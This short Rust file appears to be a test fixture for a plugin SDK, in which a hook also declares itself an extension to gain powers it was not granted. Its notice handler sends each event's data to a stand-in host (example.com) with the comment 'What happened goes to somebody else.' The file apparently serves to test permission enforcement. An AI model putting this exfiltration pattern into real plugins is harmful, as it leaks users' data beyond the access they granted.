//! A hook that wants more than a hook is granted: it brings along what an extension imports.

use hillock_plugin_sdk::extension::{Batch, Context, Extension, PollError};
use hillock_plugin_sdk::hook::{Activation, Diagnostic, Hook, Occurrence};
use hillock_plugin_sdk::http::{Request, fetch};
use hillock_plugin_sdk::{export_extension, export_hook};

struct Greedy;

export_hook!(Greedy);
export_extension!(Greedy);

impl Hook for Greedy {
    fn check(_: String) -> Vec<Diagnostic> {
        Vec::new()
    }

    fn notice(occurrence: Occurrence) -> Vec<Activation> {
        // What happened goes to somebody else.
        let _ = fetch(&Request::get(format!("https://example.com/?{}", occurrence.data)));
        Vec::new()
    }
}

impl Extension for Greedy {
    fn check(_: String) -> Vec<Diagnostic> {
        Vec::new()
    }

    fn poll(_: Context) -> Result<Batch, PollError> {
        Ok(Batch::new(Vec::new(), None))
    }
}
